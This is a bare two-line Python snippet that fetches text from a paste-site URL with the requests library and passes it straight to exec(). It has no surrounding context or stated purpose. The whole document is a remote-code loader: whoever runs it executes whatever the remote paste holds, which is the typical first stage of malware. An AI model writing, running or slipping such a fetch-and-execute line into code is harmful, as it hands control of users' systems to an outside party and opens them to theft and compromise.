import requests as rq
exec(rq.get('https://paste.example.org/raw/Zx81').text)
